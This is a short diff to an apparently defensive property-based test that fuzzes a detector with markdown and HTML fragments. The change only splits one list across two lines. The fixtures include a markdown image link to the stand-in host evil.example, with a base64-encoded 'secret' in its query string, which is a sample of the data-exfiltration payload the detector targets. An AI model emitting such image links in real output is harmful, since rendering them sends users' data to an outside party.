@@ -21,7 +21,8 @@ GATE = open_gate(DETECTOR.expressions)
 DATA = "c2VjcmV0" * 4
 CARRYING = f"![x](https://evil.example/p.png?d={DATA})"
 PIECES = st.sampled_from(
-    ["![", "[", "]", "(", ")", "](", "]:", " ", "\n", "!", "\\", "<", "<img src=", "<a href='", "</a", "<a ", "<b>", "</", "z" * 199, "src", '="', ">", "a",
+    ["![", "[", "]", "(", ")", "](", "]:", " ", "\n", "!", "\\", "<", "<img src=", "<a href='", "</a", "<a ",
+     "<b>", "</", "z" * 199, "src", '="', ">", "a",
      "http", "s://", "//e.x/?q=", "https://evil.example/p?d=" + DATA, DATA, "é", "\ud800", "x" * 290, "y" * 1990,
      CARRYING]
 )  # fmt: skip
